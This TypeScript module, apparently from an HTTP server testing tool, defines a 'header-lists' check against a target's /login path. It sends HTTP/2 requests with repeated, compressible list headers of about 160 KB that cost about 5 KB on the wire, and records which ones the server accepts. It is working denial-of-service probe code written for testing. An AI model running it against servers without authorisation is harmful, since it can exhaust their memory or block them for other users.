import { connect as connectHttp2, type OutgoingHttpHeaders } from "node:http2";
import type { Attack } from "../attack.ts";
import { handshake } from "../http/http2.ts";
import { ANSWER_WITHIN_MS, connect } from "../http/wire.ts";
import { ownHost, type Target } from "../target.ts";

/** One stream each: the lists take 160 KB of memory in the server, for a moment. */
const VALUE = "a;=,".repeat(975);
const REPEATED = 40;
const MAX_SENT_BYTES = 1024 * 1024;

/** Headers that servers join into one value, and split again. */
const NAMES = ["x-list", "accept-language", "cookie", "x-forwarded-for", "forwarded", "accept"];

export const headerLists: Attack = {
  name: "header-lists",
  about: "header lists of 160 KB that take 5 KB to send, over HTTP/2 with header compression",
  meaning: "A client with few kilobytes can use up the memory of the server or block it.",
  noun: "lists",
  verb: "were accepted",
  needs: [],
  versions: ["2"],

  async run(target, tally) {
    for (const name of NAMES) {
      tally.tried();
      const status = await statusFor(target, { [name]: Array(REPEATED).fill(VALUE) });
      if (status !== undefined && status < 400) tally.gotThrough(`${name}: ${status}`);
    }
  },
};

/** Sends one request before the server's limits are known; `undefined` if the server resets it. */
async function statusFor(
  target: Target,
  headers: OutgoingHttpHeaders,
): Promise<number | undefined> {
  const late = AbortSignal.timeout(ANSWER_WITHIN_MS);
  const signal = target.signal === undefined ? late : AbortSignal.any([late, target.signal]);
  const socket = await handshake(connect(target.address, undefined, ["h2"]), signal);
  const options = { createConnection: () => socket, maxSendHeaderBlockLength: MAX_SENT_BYTES };
  const session = connectHttp2("https://localhost", options);
  session.on("error", () => undefined);
  const own = { ":path": `${target.base}/login`, ":authority": ownHost(target) };
  const stream = session.request({ ...own, ...headers }, { signal });
  try {
    return await new Promise<number | undefined>((resolve) => {
      stream.on("response", (answered) => resolve(answered[":status"]));
      stream.on("error", () => resolve(undefined));
      stream.on("close", () => resolve(undefined));
    });
  } finally {
    session.destroy();
  }
}
